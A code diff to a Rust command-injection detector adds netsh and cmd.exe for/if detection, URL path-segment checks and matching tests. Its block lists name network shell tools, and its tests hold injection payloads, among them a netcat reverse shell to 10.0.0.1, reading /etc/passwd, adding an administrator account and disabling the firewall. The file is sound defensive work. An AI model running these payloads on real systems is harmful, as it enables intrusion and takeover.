@@ -22,13 +22,13 @@
 
 /// Programs that commonly follow an injection.
 const PROGRAMS: &[&str] = &[
-    "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc", "which", "sysinfo", "whereis", "locate", "getent", "net.exe", "nbtstat", "nltest", "dsquery", "icacls", "attrib", "findstr", "more.com", "dig", "id.exe",
+    "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc", "which", "sysinfo", "whereis", "locate", "getent", "net.exe", "nbtstat", "nltest", "dsquery", "icacls", "attrib", "findstr", "more.com", "dig", "id.exe", "netsh",
 ];
 
 /// Programs no English sentence contains as a word: their presence after a separator is
 /// enough.
 const UNAMBIGUOUS: &[&str] = &[
-    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep", "which", "sysinfo", "whereis", "getent", "nbtstat", "nltest", "dsquery", "icacls", "findstr",
+    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep", "which", "sysinfo", "whereis", "getent", "nbtstat", "nltest", "dsquery", "icacls", "findstr", "netsh",
 ];
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -38,6 +38,8 @@ enum Tok {
     Sep,
     /// `` ` ``, `$(`, `<(`, `>(`: what follows is a command.
     Subst,
+    /// A bare `(` or `{`: a subshell, a group or brace expansion, or text in parentheses.
+    Group,
     Close,
     Redirect,
 }
@@ -136,7 +138,7 @@ fn tokenize(v: &[u8]) -> Vec<Tok> {
             }
             b'(' | b'{' => {
                 flush(&mut word, &mut toks);
-                toks.push(Tok::Subst);
+                toks.push(Tok::Group);
             }
             b')' | b'}' => {
                 flush(&mut word, &mut toks);
@@ -161,20 +163,32 @@ fn tokenize(v: &[u8]) -> Vec<Tok> {
     toks
 }
 
+/// Whether `name` is one of [`PROGRAMS`] (a set built once: the word is looked up for every
+/// word in command position).
+fn is_program(name: &str) -> bool {
+    static SET: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
+    SET.get_or_init(|| PROGRAMS.iter().copied().collect()).contains(name)
+}
+
 /// The program a word names (`/usr/bin/id` -> `id`, `ID.EXE` -> `id.exe`), when known.
 fn program(word: &str) -> Option<(String, bool)> {
+    // The base name first: no program's is longer than 16 bytes, so long words (tokens, ids)
+    // are not copied.
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    if base.is_empty() || base.len() > 16 {
+        return None;
+    }
+    let base = base.to_ascii_lowercase();
+    let name = base.strip_suffix(".exe").unwrap_or(&base);
+    if !is_program(name) && !is_program(&base) {
+        return None;
+    }
     let lower = word.to_ascii_lowercase();
     let absolute = lower.starts_with('/') || lower.get(1..3) == Some(":\\");
-    let base = lower.rsplit(['/', '\\']).next().unwrap_or(&lower).to_string();
-    let name = base.strip_suffix(".exe").unwrap_or(&base);
-    if PROGRAMS.contains(&name) || PROGRAMS.contains(&base.as_str()) {
-        if absolute && !(lower.contains("bin/") || lower.contains("system32")) {
-            return None;
-        }
-        Some((name.to_string(), absolute))
-    } else {
-        None
+    if absolute && !(lower.contains("bin/") || lower.contains("system32")) {
+        return None;
     }
+    Some((name.to_string(), absolute))
 }
 
 /// Whether a word reads as a shell argument rather than as English.
@@ -188,15 +202,92 @@ fn shell_arg(word: &str) -> bool {
     }
 }
 
-/// `net view`, `net user` ...: the Windows `net` command's subcommands.
+/// `net view`, `net user`, `netsh firewall` ...: the subcommands of Windows' `net` and `netsh`.
 fn net_subcommand(name: &str, arg: &str) -> bool {
     name == "net" && matches!(arg, "view" | "user" | "users" | "localgroup" | "group" | "share" | "use" | "session" | "accounts")
+        || name == "netsh" && matches!(arg, "firewall" | "advfirewall" | "interface" | "wlan" | "winhttp" | "http" | "portproxy")
+}
+
+/// `cmd.exe`'s `for` and `if` statements, whose syntax no text has: `for [/f|/d|/l|/r ...]
+/// %x in (...) do`, and `if [/i] [not]` with a `%var%` operand, a `==` comparison, one of the
+/// comparison words `equ` `neq` `lss` `leq` `gtr` `geq`, `exist` before a file name, or
+/// `errorlevel` before a number.
+fn cmd_statement(toks: &[Tok]) -> Option<String> {
+    let word = |i: usize| match toks.get(i) {
+        Some(Tok::Word(w)) => Some(w.to_ascii_lowercase()),
+        _ => None,
+    };
+    for i in 0..toks.len() {
+        let Some(w) = word(i) else { continue };
+        if i > 0 && !matches!(toks.get(i - 1), Some(Tok::Sep | Tok::Subst | Tok::Group)) {
+            continue;
+        }
+        if w == "for" {
+            // Options (`/f`, `/l`) and their quoted text, then the `%x` / `%%x` variable and `in`.
+            let mut j = i + 1;
+            while word(j).is_some_and(|a| !a.starts_with('%')) && j < i + 6 {
+                j += 1;
+            }
+            let var = word(j).is_some_and(|a| {
+                let name = a.strip_prefix("%%").or_else(|| a.strip_prefix('%')).unwrap_or_default();
+                !name.is_empty() && name.bytes().all(|c| c.is_ascii_alphabetic())
+            });
+            if var && word(j + 1).as_deref() == Some("in") && matches!(toks.get(j + 2), Some(Tok::Group)) {
+                return Some("for".into());
+            }
+        }
+        if w == "if" {
+            let mut j = i + 1;
+            let mut switch = false;
+            if word(j).as_deref() == Some("/i") {
+                switch = true;
+                j += 1;
+            }
+            if word(j).as_deref() == Some("not") {
+                j += 1;
+            }
+            let a = word(j).unwrap_or_default();
+            let b = word(j + 1).unwrap_or_default();
+            let var = |x: &str| x.len() > 2 && x.starts_with('%') && x.ends_with('%') || x.starts_with("[%");
+            let cmp = |x: &str| matches!(x, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq") || x == "==";
+            let file = |x: &str| x.contains(['.', '\\', ':', '%']);
+            if (switch && !a.is_empty()) || var(&a) || cmp(&b) || a.contains("==")
+                || (a == "exist" && file(&b)) || (a == "defined" && var(&format!("%{b}%")) && word(j + 2).is_some_and(|c| program(&c).is_some()))
+                || (a == "errorlevel" && !b.is_empty() && b.bytes().all(|c| c.is_ascii_digit()))
+            {
+                return Some("if".into());
+            }
+        }
+    }
+    None
 }
 
 /// The injection found, as `program` (or the construct's name).
 pub fn detect_cmdi(value: &[u8]) -> Option<String> {
     if value.len() < 2 {
         return None;
+    }
+    // Without shell syntax (operators, quotes, escapes, expansions, paths, comparisons) the
+    // tokens are all words, and only the first can be in command position: unless it names a
+    // program (or `for`/`if`), there is nothing to tokenize.
+    let syntax = |b: u8| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$' | b'(' | b')' | b'{' | b'}' | b'<' | b'>' | b'/' | b'\\' | b'\'' | b'"' | b'^' | b'%' | b'=' | b'[' | b']');
+    if !value.iter().any(|&b| syntax(b)) {
+        let first = value.split(|&b| matches!(b, b' ' | b'\t' | b',')).find(|w| !w.is_empty()).unwrap_or_default();
+        let first = String::from_utf8_lossy(first).to_ascii_lowercase();
+        if first != "for" && first != "if" && program(&first).is_none() {
+            return None;
+        }
+    }
+    // A URL path: each segment that holds a shell operator is also a value of its own (the
+    // segments after it are not the command's arguments).
+    if value.first() == Some(&b'/') {
+        for seg in value.split(|&c| c == b'/') {
+            if seg.len() >= 2 && seg.iter().any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'\n')) && seg.len() < value.len() - 1 {
+                if let Some(hit) = detect_cmdi(seg) {
+                    return Some(hit);
+                }
+            }
+        }
     }
     let norm = normalize(value);
     let ns = String::from_utf8_lossy(&norm);
@@ -208,11 +299,14 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
         }
     }
     let toks = tokenize(&norm);
+    if let Some(hit) = cmd_statement(&toks) {
+        return Some(hit);
+    }
     for (i, t) in toks.iter().enumerate() {
         let Tok::Word(w) = t else { continue };
         let before = if i == 0 { None } else { toks.get(i - 1) };
         let at_start = before.is_none();
-        let after_sep = matches!(before, Some(Tok::Sep | Tok::Subst));
+        let after_sep = matches!(before, Some(Tok::Sep | Tok::Subst | Tok::Group));
         if !at_start && !after_sep {
             continue;
         }
@@ -221,11 +315,16 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
         let unambiguous = UNAMBIGUOUS.contains(&name.as_str());
         let arg_like = match next {
             None => true,
-            Some(Tok::Sep | Tok::Subst | Tok::Close | Tok::Redirect) => true,
+            Some(Tok::Sep | Tok::Subst | Tok::Group | Tok::Close | Tok::Redirect) => true,
             Some(Tok::Word(a)) => shell_arg(a),
         };
         let in_subst = matches!(before, Some(Tok::Subst)) && matches!(toks.get(i + 1..).and_then(|r| r.iter().find(|t| !matches!(t, Tok::Word(_)))), Some(Tok::Close | Tok::Subst));
         let net = matches!(next, Some(Tok::Word(a)) if net_subcommand(&name, &a.to_ascii_lowercase()));
+        // Text in parentheses (`hello world (test)`, `(more)`): a program English has as a
+        // word only with a shell argument after it.
+        if matches!(before, Some(Tok::Group)) && !unambiguous && !matches!(next, Some(Tok::Word(a)) if shell_arg(a)) {
+            continue;
+        }
         if after_sep && net {
             return Some(name);
         }
@@ -267,7 +366,7 @@ mod tests {
 
     #[test]
     fn separators_before_programs() {
-        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la"] {
+        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la", "WHOAMI.EXE", "sleep 5", "uname -a"] {
             assert!(hit(s), "{s}");
         }
     }
@@ -287,8 +386,25 @@ mod tests {
     }
 
     #[test]
+    fn cmd_exe_for_and_if() {
+        for s in ["FOR /F \"options\" %a IN (\"text\") DO abc", "for /l %variable in (1,1,2) do command", "for %i in (*) do set LIST= %i", "FOR /F %%G IN ('\"C:\\program Files\\command.exe\"') DO ECHO %%G", "IF   /I   NOT   EXIST   C:\\nonexistent   echo hey", "if /i not  \"a\"==\"b\"  foo", "IF        [%1] EQU []            ECHO Value Missing", "if %n1% gtr %n2% echo x", "IF EXIST filename.txt (", "& if errorlevel 1 echo x", "& netsh firewall set opmode disable"] {
+            assert!(hit(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn path_segments() {
+        for s in ["/files/; pwd/view", "/files/& sysinfo/view", "/a/| whoami/b"] {
+            assert!(hit(s), "{s}");
+        }
+        for s in ["/files/rock & roll/view", "/search/Tom & Jerry/", "/api/v1/users/id", "/shop/cat/toys"] {
+            assert!(!hit(s), "{s}");
+        }
+    }
+
+    #[test]
     fn english_and_code_are_not_commands() {
-        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01"] {
+        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01", "for me in the morning", "if not exist, create it", "if you like it, for sure", "hello world (test)", "see the notes (more) below", "a {date} placeholder", "for all in (the list) do it", "If the item exists.", "if defined, use it", "hello", "sort by price", "Sleep Number bed", "123456", "abc-def_ghi"] {
             assert!(!hit(s), "{s}");
         }
     }
